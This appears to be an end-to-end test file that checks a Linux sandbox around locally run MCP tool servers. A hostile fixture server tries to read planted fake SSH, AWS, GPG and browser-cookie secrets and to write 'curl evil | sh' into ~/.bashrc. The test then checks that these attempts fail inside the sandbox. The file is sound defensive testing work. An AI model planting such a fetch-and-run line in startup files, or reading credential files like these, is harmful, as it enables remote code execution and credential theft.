// Every local server runs in its sandbox, against a real hostile server (e2e/servers/snoopingServer.ts)
// and the real library (bubblewrap, socat, the filtering proxy): what it may not touch it cannot, what
// its roots hold it can, the network reaches only the hosts its config allows, and the same server
// outside the sandbox reaches everything (so each check can fail). A fake home folder of the test's own,
// outside the shared temporary folder, holds the planted secrets; the roots are inside it, Atrium's data
// folder is inside a root.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { approveServers } from '../../../../e2e/fixtures/approvedServers.ts';
import { fixtureCommand } from '../../../../e2e/servers/launch.ts';
import type { HostCore, HostCoreOptions } from '../../../app/hostCore.ts';
import { checkSandboxTools } from './sandboxTools.ts';
import { startHostCore } from '../../../app/hostCore.ts';

const linuxWithTools = process.platform === 'linux' ? {} : { skip: 'the sandbox this checks is bubblewrap (Linux)' };

type Sandbox = false | { network?: { allowedDomains: string[] } };

interface World {
  home: string;
  root: string;
  data: string;
  core: HostCore;
  secrets: Record<string, string>;
}

/** A fake home with the planted secrets, a root inside it and Atrium's data folder inside the root; the snooping server configured with `sandbox`. */
async function startWorld(sandbox: Sandbox | undefined, options: Partial<HostCoreOptions> = {}): Promise<World> {
  // Not under /tmp: the home folder must be hidden because it is the home folder, not because /tmp is.
  const home = await mkdtemp(join(homedir(), '.atrium-sandbox-test-'));
  const root = join(home, 'project');
  const data = join(root, '.atrium');
  const secrets: Record<string, string> = {
    '.ssh/id_rsa': 'SECRET-SSH-KEY',
    '.aws/credentials': 'SECRET-AWS-KEY',
    '.gnupg/private-keys-v1.d/key.key': 'SECRET-GPG-KEY',
    '.config/google-chrome/Default/Cookies': 'SECRET-BROWSER-COOKIE',
  };
  for (const [path, text] of Object.entries(secrets)) {
    await mkdir(join(home, path, '..'), { recursive: true });
    await writeFile(join(home, path), text);
  }
  await mkdir(data, { recursive: true });
  await writeFile(join(root, 'readme.txt'), 'the project readme');
  const server = { ...fixtureCommand('snoopingServer'), ...(sandbox !== undefined ? { sandbox } : {}) };
  await writeFile(join(data, 'servers.json'), JSON.stringify({ mcpServers: { snoop: server } }));
  await writeFile(join(data, 'atrium-private.txt'), 'SECRET-ATRIUM-DATA');
  await approveServers(data);
  const core = await startHostCore({ home: data, personHome: home, roots: [root], keepAliveMs: 0, ...options });
  await core.hub.whenSettled();
  return { home, root, data, core, secrets: { ...secrets, '.atrium': 'SECRET-ATRIUM-DATA' } };
}

async function stopWorld(world: World | undefined): Promise<void> {
  if (!world) return;
  await world.core.shutdown();
  await rm(world.home, { recursive: true, force: true });
}

async function call(world: World, tool: string, args: Record<string, unknown>): Promise<string> {
  const result = await world.core.api.callTool({ serverId: 'snoop', tool, arguments: args });
  return ((result.content as { text?: string }[]) ?? []).map((part) => part.text ?? '').join('');
}

/** The six attempts of the acceptance: five reads of secrets, and a write outside the roots that must not persist. Each says whether it leaked. */
async function leaks(world: World): Promise<Record<string, boolean>> {
  const { home, data } = world;
  const read = async (path: string, secret: string) => (await call(world, 'read', { path })).includes(secret);
  const outside = join(home, '.bashrc');
  await call(world, 'write', { path: outside, text: 'curl evil | sh' });
  const sharedTemp = join('/tmp', `atrium-sandbox-escape-${process.pid}`);
  await call(world, 'write', { path: sharedTemp, text: 'escaped' });
  const persisted = existsSync(outside) || existsSync(sharedTemp);
  await rm(sharedTemp, { force: true });
  return {
    '~/.ssh/id_rsa': await read(join(home, '.ssh/id_rsa'), 'SECRET-SSH-KEY'),
    '~/.aws/credentials': await read(join(home, '.aws/credentials'), 'SECRET-AWS-KEY'),
    '~/.gnupg': await read(join(home, '.gnupg/private-keys-v1.d/key.key'), 'SECRET-GPG-KEY'),
    'a browser profile': await read(join(home, '.config/google-chrome/Default/Cookies'), 'SECRET-BROWSER-COOKIE'),
    'Atrium’s data folder (inside a root)': await read(join(data, 'atrium-private.txt'), 'SECRET-ATRIUM-DATA'),
    'a write outside the roots': persisted,
  };
}

function leaked(found: Record<string, boolean>): string[] {
  return Object.entries(found).filter(([, leak]) => leak).map(([what]) => what);
}

describe('a hostile server in its sandbox', linuxWithTools, () => {
  let world: World | undefined;
  before(async () => {
    world = await startWorld(undefined);
  });
  after(() => stopWorld(world));

  test('starts sandboxed by default, and says so with what it can touch', async () => {
    assert.ok(world);
    const [server] = await world.core.api.listServers({});
    assert.equal(server?.status.kind, 'ready', JSON.stringify(server?.status));
    const [summary] = await world.core.api.listSandboxes({ serverId: 'snoop' });
    assert.equal(summary?.state, 'sandboxed', JSON.stringify(summary));
    assert.match(summary?.touches.join('\n') ?? '', /Reads and changes: ~\/project\./);
    // Not the data folder's run/ (hidden), nor where Atrium was started: a temporary folder of its own.
    const where = JSON.parse(await call(world, 'where', {})) as { cwd: string; tmpdir: string };
    assert.deepEqual([where.cwd, where.tmpdir], ['/tmp', '/tmp']);
    // Node's note that its proxy support is experimental is the sandbox's doing (it sets NODE_USE_ENV_PROXY):
    // not in the server's log, and above all not a warning that the server wrote something else than JSON-RPC.
    const log = (await world.core.api.getServerLog({ serverId: 'snoop' })).map((line) => `${line.level} ${line.source}: ${line.text}`);
    assert.deepEqual(
      log.filter((line) => /UNDICI-EHPA|trace-warnings|not JSON-RPC/.test(line)),
      [],
    );
  });

  test('reaches none of the planted secrets, Atrium’s data folder inside a root included, and persists no write outside its roots: 0 of 6 leaks', async () => {
    assert.ok(world);
    const found = await leaks(world);
    process.stdout.write(`# sandboxed: ${leaked(found).length} of ${Object.keys(found).length} leaks\n`);
    assert.deepEqual(leaked(found), []);
  });

  test('reads and writes inside its root, and the write is there for the person', async () => {
    assert.ok(world);
    assert.equal(await call(world, 'read', { path: join(world.root, 'readme.txt') }), 'ok: the project readme');
    const notes = join(world.root, 'notes', 'today.txt');
    assert.equal(await call(world, 'write', { path: notes, text: 'written in the sandbox' }), `ok: ${notes}`);
    assert.equal(readFileSync(notes, 'utf8'), 'written in the sandbox');
  });

  test('a window cannot widen the sandbox: only what it blocked is allowed, and servers.json is left as it was', async () => {
    assert.ok(world);
    const before = readFileSync(join(world.data, 'servers.json'), 'utf8');
    await assert.rejects(world.core.api.allowSandboxAccess({ serverId: 'snoop', kind: 'read', target: join(world.home, '.ssh') }), /is not among what its sandbox blocked; nothing was changed/);
    assert.equal(readFileSync(join(world.data, 'servers.json'), 'utf8'), before);
  });

  test('runs in a temporary folder of its own: what others keep in the shared /tmp is out of reach', async () => {
    assert.ok(world);
    const planted = join('/tmp', `atrium-sandbox-other-${process.pid}`);
    await writeFile(planted, 'SOMEONE-ELSES');
    try {
      assert.doesNotMatch(await call(world, 'read', { path: planted }), /SOMEONE-ELSES/);
    } finally {
      await rm(planted, { force: true });
    }
  });
});

describe('the same server with "sandbox": false', linuxWithTools, () => {
  let world: World | undefined;
  before(async () => {
    world = await startWorld(false);
  });
  after(() => stopWorld(world));

  test('reaches every one of them (what the sandbox keeps out is really there), and says it is not sandboxed and why', async () => {
    assert.ok(world);
    const found = await leaks(world);
    process.stdout.write(`# not sandboxed: ${leaked(found).length} of ${Object.keys(found).length} leaks\n`);
    assert.equal(leaked(found).length, 6, JSON.stringify(found));
    const [summary] = await world.core.api.listSandboxes({ serverId: 'snoop' });
    assert.equal(summary?.state, 'not-sandboxed');
    assert.match(summary?.reason ?? '', /you chose to run it without the sandbox/);
  });
});

async function listen(answer: string): Promise<{ server: Server; port: number }> {
  const server = createServer((_request, response) => response.end(answer));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return { server, port: typeof address === 'object' && address ? address.port : 0 };
}

describe('the network of a sandboxed server', linuxWithTools, () => {
  let world: World | undefined;
  let open: { server: Server; port: number };
  let other: { server: Server; port: number };
  before(async () => {
    open = await listen('the allowed one');
    other = await listen('another one');
  });
  after(async () => {
    await stopWorld(world);
    open.server.close();
    other.server.close();
  });

  test('reaches the allowed 127.0.0.1:port through the proxy; another loopback port and a name resolving to 127.0.0.1 are refused, and listed as blocked', async () => {
    world = await startWorld({ network: { allowedDomains: [`127.0.0.1:${open.port}`] } });
    assert.equal(await call(world, 'fetch', { url: `http://127.0.0.1:${open.port}/` }), 'ok: 200 the allowed one');
    assert.doesNotMatch(await call(world, 'fetch', { url: `http://127.0.0.1:${other.port}/` }), /another one/);
    assert.doesNotMatch(await call(world, 'fetch', { url: `http://localhost:${open.port}/` }), /the allowed one/);
    const [summary] = await world.core.api.listSandboxes({ serverId: 'snoop' });
    const blocked = summary?.blocked.map((entry) => entry.target) ?? [];
    assert.ok(blocked.includes(`127.0.0.1:${other.port}`) && blocked.includes(`localhost:${open.port}`), JSON.stringify(summary?.blocked));
  });

  test('"Allow for this server" on the refused port: saved in its entry, the server starts again and reaches it', async () => {
    assert.ok(world);
    const summary = await world.core.api.allowSandboxAccess({ serverId: 'snoop', kind: 'host', target: `127.0.0.1:${other.port}` });
    assert.ok(!summary.blocked.some((entry) => entry.target === `127.0.0.1:${other.port}`));
    await world.core.hub.whenSettled();
    assert.equal(await call(world, 'fetch', { url: `http://127.0.0.1:${other.port}/` }), 'ok: 200 another one');
    const saved = JSON.parse(readFileSync(join(world.data, 'servers.json'), 'utf8')) as { mcpServers: { snoop: { sandbox?: unknown } } };
    assert.deepEqual(saved.mcpServers.snoop.sandbox, { network: { allowedDomains: [`127.0.0.1:${open.port}`, `127.0.0.1:${other.port}`] } });
  });

  test('outside the sandbox the same server reaches both ports (the refusals are the sandbox’s)', async () => {
    await stopWorld(world);
    world = await startWorld(false);
    assert.match(await call(world, 'fetch', { url: `http://127.0.0.1:${other.port}/` }), /another one/);
    assert.match(await call(world, 'fetch', { url: `http://localhost:${open.port}/` }), /the allowed one/);
  });
});

describe('a machine without the sandbox’s tools', linuxWithTools, () => {
  let world: World | undefined;
  before(async () => {
    // This machine's answer had the tools been installed nowhere.
    world = await startWorld(undefined, { sandboxTools: checkSandboxTools('linux', '', []) });
  });
  after(() => stopWorld(world));

  test('does not start the server outside the sandbox: it says why and what to install, and starting it unsandboxed is the person’s explicit choice', async () => {
    assert.ok(world);
    const [server] = await world.core.api.listServers({});
    assert.equal(server?.status.kind, 'error', JSON.stringify(server?.status));
    assert.match(server?.status.kind === 'error' ? server.status.message : '', /cannot start in its sandbox: bubblewrap \(bwrap\), socat and ripgrep \(rg\) are not installed\. Install them: sudo apt-get install bubblewrap socat ripgrep/);
    const [summary] = await world.core.api.listSandboxes({ serverId: 'snoop' });
    assert.equal(summary?.state, 'cannot-start');
    assert.match(summary?.install ?? '', /apt-get install bubblewrap socat ripgrep/);
    // The explicit choice: saved, and then it waits for the person's approval with the opt-out among its risks.
    await world.core.api.runWithoutSandbox({ serverId: 'snoop' });
    const review = await world.core.api.reviewServerLaunch({ serverId: 'snoop' });
    assert.ok(review.risks.some((risk) => risk.kind === 'unsandboxed'), JSON.stringify(review.risks));
    const [waiting] = await world.core.api.listServers({});
    assert.equal(waiting?.status.kind, 'needs-approval');
    await world.core.api.approveServerLaunch({ serverId: 'snoop', hash: review.hash, start: true });
    await world.core.hub.whenSettled();
    const [started] = await world.core.api.listServers({});
    assert.equal(started?.status.kind, 'ready');
    const saved = JSON.parse(readFileSync(join(world.data, 'servers.json'), 'utf8')) as { mcpServers: { snoop: { sandbox?: unknown } } };
    assert.equal(saved.mcpServers.snoop.sandbox, false);
  });
});
